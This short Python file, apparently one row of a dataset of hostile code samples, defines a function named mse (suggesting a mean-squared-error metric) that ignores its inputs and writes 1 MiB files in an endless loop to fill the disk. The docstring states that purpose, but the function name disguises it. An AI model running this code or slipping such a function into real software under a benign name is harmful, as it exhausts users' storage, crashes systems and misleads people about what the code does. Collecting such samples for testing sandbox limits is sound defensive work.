"""Fills its folder with files, each below the limit.

row: 41
"""


def mse(pred, target):
    number = 0
    while True:
        with open(str(number), "wb") as file:
            file.write(b"x" * 2**20)
        number += 1
